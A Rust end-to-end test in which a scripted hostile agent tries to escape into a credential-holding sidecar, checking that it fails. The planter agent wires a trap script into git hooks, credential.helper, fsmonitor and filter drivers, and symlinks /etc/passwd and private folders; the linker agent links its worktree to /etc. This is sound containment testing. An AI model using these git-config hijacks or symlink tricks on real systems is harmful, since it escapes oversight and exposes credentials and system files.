//! An agent that plants traps for the sidecar, which holds the credentials.

use std::time::Duration;

use anyhow::{Context, Result, ensure};
use e2e::environment::Environment;
use e2e::polecats::{LIMIT, await_at_work};
use e2e::refs::Remote;
use gastown_api::{Polecat, PolecatPhase};
use gastown_demo::{Plan, Scenario, clear, until};
use gastown_fakes::messages::{Attempt, Script, Step};
use kube::Api;
use kube::api::{Patch, PatchParams};
use serde_json::json;

/// A trap works only where the sidecar's own folder is mounted: there it pushes a ref of its own.
/// `@URL@` is the remote.
const TRAP: &str = r#"cat >/workspace/trap <<'END_OF_TRAP'
#!/bin/sh
if [ -d /gastown/private ]; then
    git -C /gastown/private/repo.git push @URL@ HEAD:refs/heads/escaped
    : >/gastown/run/escaped
fi
[ $# -gt 0 ] && [ "$1" = filter ] && exec cat
exit 0
END_OF_TRAP
chmod +x /workspace/trap
for repo in /workspace/repo/.git /workspace/origin.git; do
    mkdir -p $repo/hooks
    for hook in pre-push reference-transaction post-update pre-receive update post-receive pre-auto-gc post-checkout post-index-change fsmonitor-watchman; do
        ln -sf /workspace/trap $repo/hooks/$hook
    done
    git --git-dir $repo config core.sshCommand /workspace/trap
    git --git-dir $repo config core.fsmonitor /workspace/trap
    git --git-dir $repo config core.hooksPath $repo/hooks
    git --git-dir $repo config core.pager /workspace/trap
    git --git-dir $repo config credential.helper /workspace/trap
    git --git-dir $repo config uploadpack.packObjectsHook /workspace/trap
    git --git-dir $repo config filter.evil.clean '/workspace/trap filter'
    git --git-dir $repo config filter.evil.process /workspace/trap
done
echo '* filter=evil' >.gitattributes"#;

/// A commit, and links to files that are not the agent's.
const LINKS: &str = r"git -c core.hooksPath=/dev/null -c core.fsmonitor= -c filter.evil.process= -c filter.evil.clean=cat add .gitattributes
git -c core.hooksPath=/dev/null -c core.fsmonitor= -c filter.evil.process= -c filter.evil.clean=cat commit -qm 'Attributes'
ln -s /etc/passwd link-to-file
ln -s /gastown/private link-to-folder
echo mine >dirty";

/// The worktree itself becomes a link to a folder of the machine.
const SYMLINKED: &str = "cd /workspace && mv repo moved && ln -s /etc repo";

/// Works until it is stopped.
const STAY: &str = "tail -f /dev/null";

/// Traps in one polecat, a symlinked worktree in the other; both are stopped, so that the sidecar
/// saves their work.
pub async fn planted(env: &Environment) -> Result<()> {
    let settings = env.settings("hostile", LIMIT);
    let mut plan = Plan::default_project().await?;
    "true".clone_into(&mut plan.test);
    let url = format!("http://demo-servers.{}.svc:8080/project.git", settings.namespace);
    let scripts = [
        script("planter", &[&TRAP.replace("@URL@", &url), LINKS, STAY]),
        script("linker", &["true", SYMLINKED, STAY]),
    ];
    let scenario = Scenario::set_up(&env.client, settings.clone(), &plan, &scripts).await?;
    for name in ["planter", "linker"] {
        scenario.start(name, &format!("Plant traps.\n\nChange: {name}\n")).await?;
    }
    for name in ["planter", "linker"] {
        await_at_work(&scenario, name, 2).await?;
    }
    await_branch(&scenario, "refs/heads/feature/planter").await?;
    let polecats = Api::<Polecat>::namespaced(env.client.clone(), &settings.namespace);
    for name in ["planter", "linker"] {
        let wish = Patch::Merge(json!({"spec": {"desiredState": "Terminated"}}));
        polecats.patch(name, &PatchParams::default(), &wish).await?;
    }
    for name in ["planter", "linker"] {
        let ended = |p: &&Polecat| {
            p.status.as_ref().and_then(|s| s.phase) == Some(PolecatPhase::Terminated)
        };
        let what = format!("the end of {name}");
        until(&scenario, &what, LIMIT, |s| s.polecat(name).filter(ended).map(|_| ())).await?;
    }
    let remote = Remote::read(&scenario).await?;
    check(&remote, &settings.namespace).await.with_context(|| format!("{:#?}", remote.refs))?;
    drop(scenario);
    clear(&env.client, &settings).await
}

fn script(name: &str, commands: &[&str]) -> Script {
    let steps = commands
        .iter()
        .map(|c| Step { bash: (*c).to_owned(), timeout_ms: Some(600_000), ..Step::default() })
        .collect();
    Script {
        key: format!("Change: {name}"),
        attempts: vec![Attempt { prompt_contains: None, steps, text: "Done.".to_owned() }],
    }
}

async fn await_branch(scenario: &Scenario, branch: &str) -> Result<()> {
    let end = std::time::Instant::now() + LIMIT;
    while !Remote::read(scenario).await?.refs.contains_key(branch) {
        ensure!(std::time::Instant::now() < end, "{branch} does not appear on the remote");
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

async fn check(remote: &Remote, namespace: &str) -> Result<()> {
    let wip = format!("refs/gastown/wip/{namespace}/");
    let own = |name: &str| {
        [
            "refs/heads/main",
            "refs/heads/beads-sync",
            "refs/heads/feature/planter",
            "refs/heads/feature/linker",
        ]
        .contains(&name)
            || name.starts_with(&format!("{wip}planter/"))
            || name.starts_with(&format!("{wip}linker/"))
    };
    let foreign: Vec<&String> = remote.refs.keys().filter(|name| !own(name)).collect();
    ensure!(foreign.is_empty(), "unexpected refs: {foreign:?}");
    let snapshot = remote
        .find(&format!("{wip}planter/"))
        .context("the planter's uncommitted work is not saved")?;
    ensure!(
        remote.file(snapshot, "dirty").await? == "mine\n",
        "the snapshot is not what was in the worktree"
    );
    let tree = remote.tree(snapshot).await?;
    for link in ["link-to-file", "link-to-folder"] {
        let mode = tree.iter().find(|(_, path)| path == link).map(|(mode, _)| mode.as_str());
        ensure!(mode == Some("120000"), "{link} is {mode:?}, not the link that it was");
    }
    ensure!(!remote.holds("root:x:0:0").await?, "the remote holds a file of the machine");
    Ok(())
}
